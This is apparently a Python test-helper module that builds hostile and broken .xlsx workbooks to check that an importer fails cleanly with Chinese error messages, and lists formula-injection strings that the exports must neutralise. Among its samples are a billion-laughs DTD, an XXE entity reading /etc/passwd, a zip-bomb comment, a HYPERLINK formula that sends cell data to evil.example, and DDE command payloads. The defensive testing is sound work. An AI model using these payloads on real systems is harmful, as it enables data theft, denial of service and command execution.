"""Hostile workbooks and hostile text. Workbooks written part by part with zipfile, as an
attacker or a broken program would: what the .xlsx imports must answer with a Chinese message
instead of a stuck or failed request. Text that starts like a formula: what the exports must
write as the text typed."""

from __future__ import annotations

import functools
import io
import zipfile
from xml.sax.saxutils import escape

from openpyxl import load_workbook

from qualitymonth.core.sheetreader import MAX_PART_BYTES
from qualitymonth.core.xlsx import FORMULA_TRIGGERS

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XML = '<?xml version="1.0" encoding="UTF-8"?>'


def relationships(*targets: tuple[str, str]) -> str:
    entries = "".join(
        f'<Relationship Id="rId{n}" Type="{OFFICE}/{kind}" Target="{target}"/>'
        for n, (kind, target) in enumerate(targets, 1)
    )
    return f'{XML}<Relationships xmlns="{RELS}">{entries}</Relationships>'


def workbook_xml(*sheets: str) -> str:
    entries = "".join(
        f'<sheet name="{name}" sheetId="{n}" r:id="rId{n}"/>' for n, name in enumerate(sheets, 1)
    )
    return f'{XML}<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>{entries}</sheets></workbook>'


def sheet_xml(rows: list[list[str]], *, before: str = "", prologue: str = "") -> str:
    """A worksheet of inline strings; ``before`` goes ahead of the sheet data (a comment),
    ``prologue`` ahead of the root element (a DTD)."""
    body = "".join(
        f'<row r="{r}">'
        + "".join(
            f'<c r="{chr(64 + c)}{r}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'
            for c, text in enumerate(row, 1)
            if text
        )
        + "</row>"
        for r, row in enumerate(rows, 1)
    )
    return (
        f'{XML}{prologue}<worksheet xmlns="{MAIN}">{before}'
        f"<sheetData>{body}</sheetData></worksheet>"
    )


SPREADSHEETML = "application/vnd.openxmlformats-officedocument.spreadsheetml"
CONTENT_TYPES = {
    "xl/workbook.xml": f"{SPREADSHEETML}.sheet.main+xml",
    "xl/worksheets/sheet1.xml": f"{SPREADSHEETML}.worksheet+xml",
    "xl/sharedStrings.xml": f"{SPREADSHEETML}.sharedStrings+xml",
    "xl/chartsheets/sheet1.xml": f"{SPREADSHEETML}.chartsheet+xml",
}


def content_types(names) -> str:
    """The [Content_Types].xml of a package of these parts. The reader has no use for it; it
    is there so that these files get as far in other readers (openpyxl, Excel) as a real
    workbook would."""
    overrides = "".join(
        f'<Override PartName="/{name}" ContentType="{CONTENT_TYPES[name]}"/>'
        for name in names
        if name in CONTENT_TYPES
    )
    return (
        f'{XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{overrides}</Types>'
    )


def package(parts: dict[str, str | bytes], *, types: bool = True) -> bytes:
    """A zip of ``parts``, with their content types if ``types`` and not among them."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if types and "[Content_Types].xml" not in parts:
            archive.writestr("[Content_Types].xml", content_types(parts))
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


# Every part of a one-sheet workbook but the sheet itself and the content types.
PARTS = {
    "_rels/.rels": relationships(("officeDocument", "xl/workbook.xml")),
    "xl/workbook.xml": workbook_xml("表1"),
    "xl/_rels/workbook.xml.rels": relationships(("worksheet", "worksheets/sheet1.xml")),
}


def workbook(sheet: str, strings: str | None = None) -> bytes:
    """A one-sheet workbook with ``sheet`` as its worksheet's XML and, if given, ``strings`` as
    its shared strings."""
    if strings is None:
        return package({**PARTS, "xl/worksheets/sheet1.xml": sheet})
    targets = ("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")
    return package(
        {
            **PARTS,
            "xl/_rels/workbook.xml.rels": relationships(*targets),
            "xl/worksheets/sheet1.xml": sheet,
            "xl/sharedStrings.xml": strings,
        }
    )


@functools.cache
def zero_comments(comment_bytes: int) -> bytes:
    """A sheet of one row after comments of zeros ``comment_bytes`` long each, which add up to
    just past the part budget: a few hundred KB zipped."""
    buffer = io.BytesIO()
    head, tail = sheet_xml([["甲"]], before="<!---->").split("<!---->")
    comment = b"<!--" + b"0" * comment_bytes + b"-->"
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types([*PARTS, "xl/worksheets/sheet1.xml"]))
        for name, content in PARTS.items():
            archive.writestr(name, content)
        with archive.open("xl/worksheets/sheet1.xml", "w") as part:
            part.write(head.encode())
            for _ in range(MAX_PART_BYTES // len(comment) + 1):
                part.write(comment)
            part.write(tail.encode())
    return buffer.getvalue()


@functools.cache
def far_right_rows(headers: tuple[str, ...], count: int = 200_000) -> bytes:
    """The headers, then ``count`` rows each holding one cell in column XFD, the last Excel
    has: about 1 MB zipped."""
    rows = "".join(
        f'<row r="{r}"><c r="XFD{r}" t="inlineStr"><is><t>x</t></is></c></row>'
        for r in range(2, count + 2)
    )
    return workbook(sheet_xml([list(headers)]).replace("</sheetData>", rows + "</sheetData>"))


BILLION_LAUGHS = (
    '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    + "]>"
)
BROKEN = "文件可能已损坏"
NOT_A_WORKBOOK = "不是 Excel 工作簿"
TOO_LARGE = "表格过大：最多读取"

# What each hostile workbook must be answered with (a part of the message).
EXPECTED = {
    "one comment of zeros expanding past the part budget": "异常大的内容",
    "200,000 rows in column XFD": TOO_LARGE,
    "unclosed sheet XML": BROKEN,
    "garbage sheet XML": BROKEN,
    "DTD with nested entities (billion laughs)": BROKEN,
    "external entity (XXE)": BROKEN,
    "sheet part missing": BROKEN,
    "only a chartsheet": "没有工作表",
    "shared string index out of range": BROKEN,
    "a zip that is not a workbook": NOT_A_WORKBOOK,
    "a Word document named .xlsx": NOT_A_WORKBOOK,
    "truncated zip": NOT_A_WORKBOOK,
}


@functools.cache
def hostile(headers: tuple[str, ...]) -> dict[str, bytes]:
    """Each hostile or broken workbook of ``EXPECTED``; ``headers`` make the ones that get as
    far as their rows look like the import's own table."""
    rows = [list(headers), list(headers)]
    laughs = sheet_xml(rows, prologue=BILLION_LAUGHS).replace(
        f"<t>{escape(headers[0])}</t>", "<t>&j;</t>", 1
    )
    xxe = sheet_xml(rows, prologue='<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
    chart_only = package(
        {
            **PARTS,
            "xl/workbook.xml": workbook_xml("图表1"),
            "xl/_rels/workbook.xml.rels": relationships(("chartsheet", "chartsheets/sheet1.xml")),
            "xl/chartsheets/sheet1.xml": f'<chartsheet xmlns="{MAIN}"/>',
        }
    )
    missing_string = sheet_xml([]).replace(
        "<sheetData>", '<sheetData><row r="1"><c r="A1" t="s"><v>7</v></c></row>'
    )
    return {
        # The probe's 310 KB upload held one comment of 300 MB; this one expands to 64 MB (a
        # 66 KB upload), the same to the reader, which refuses any token past 1 MB.
        "one comment of zeros expanding past the part budget": zero_comments(MAX_PART_BYTES),
        "200,000 rows in column XFD": far_right_rows(headers),
        "unclosed sheet XML": workbook(sheet_xml(rows)[:-40]),
        "garbage sheet XML": workbook("<worksheet><sheetData><row><c>\x00garbage"),
        "DTD with nested entities (billion laughs)": workbook(laughs),
        "external entity (XXE)": workbook(xxe.replace("<t>", "<t>&x;", 1)),
        "sheet part missing": package(PARTS),
        "only a chartsheet": chart_only,
        "shared string index out of range": workbook(missing_string),
        "a zip that is not a workbook": package({"readme.txt": "hello"}, types=False),
        "a Word document named .xlsx": package({"word/document.xml": "<w:document/>"}),
        "truncated zip": workbook(sheet_xml(rows))[:300],
    }


# One of each: what a citizen could type into a complaint, a registration answer or a name.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"查看详情")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
]


def cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formulas(data: bytes) -> None:
    """No cell of the workbook is a formula, and text that starts like one is marked as text
    (the quote prefix Excel shows as a leading apostrophe), so editing it keeps it text."""
    for cell in cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
